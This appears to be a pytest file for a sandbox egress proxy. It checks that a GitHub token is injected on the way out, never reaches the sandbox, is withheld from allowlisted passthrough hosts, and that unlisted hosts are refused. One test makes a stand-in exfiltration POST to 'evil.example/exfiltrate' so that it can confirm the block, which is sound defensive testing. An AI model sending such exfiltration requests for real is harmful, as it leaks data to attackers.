"""The sandbox calls GitHub without a token; the handler adds it on the way out; the sandbox never sees it.

Run with `pytest` in this folder: outbound's pytest plugin loads the project (../wrangler.jsonc), and a local
stub stands in for every upstream host.
"""

from emulator import Emulator, Step
from emulator.pytest_plugin import AuditView, UpstreamStub


async def test_the_token_reaches_github_and_never_the_sandbox(outbound: Emulator, upstream: UpstreamStub) -> None:
    token = outbound.config.secrets["GITHUB_TOKEN"]  # from .dev.vars, as wrangler dev reads it
    upstream.respond("api.github.com", "/user", json={"login": "octocat"})

    response = await outbound.sandbox("agent-1").fetch("https://api.github.com/user")

    assert (response.status, response.json()) == (200, {"login": "octocat"})
    assert upstream.last.headers["authorization"] == f"Bearer {token}"
    assert token.encode() not in response.body
    assert all(token not in value for _, value in response.headers)


async def test_both_github_hosts_get_the_token_over_http_and_https(outbound: Emulator, upstream: UpstreamStub) -> None:
    token = outbound.config.secrets["GITHUB_TOKEN"]
    sandbox = outbound.sandbox("agent-1")
    for url in ("https://github.com/octocat/hello.git", "http://api.github.com/repos/octocat/hello"):
        assert (await sandbox.fetch(url)).status == 200
    assert [(r.scheme, r.host, r.headers["authorization"]) for r in upstream.requests] == [
        ("https", "github.com", f"Bearer {token}"),
        ("http", "api.github.com", f"Bearer {token}"),
    ]


async def test_an_allowed_host_without_a_handler_passes_through_without_the_token(
    outbound: Emulator, upstream: UpstreamStub
) -> None:
    response = await outbound.sandbox("agent-1").fetch("https://raw.githubusercontent.com/octocat/hello/README")

    assert (response.status, response.decision.step) == (200, Step.ALLOWLIST_PASSTHROUGH)
    assert "authorization" not in upstream.last.headers


async def test_other_hosts_are_refused_before_anything_leaves(
    outbound: Emulator, upstream: UpstreamStub, audit: AuditView
) -> None:
    response = await outbound.sandbox("agent-1").fetch("https://evil.example/exfiltrate", method="POST", body="x")

    assert (response.status, response.text()) == (520, "Origin is disallowed")
    assert upstream.requests == []
    assert audit.one(host="evil.example").step == Step.NOT_ALLOWLISTED.value
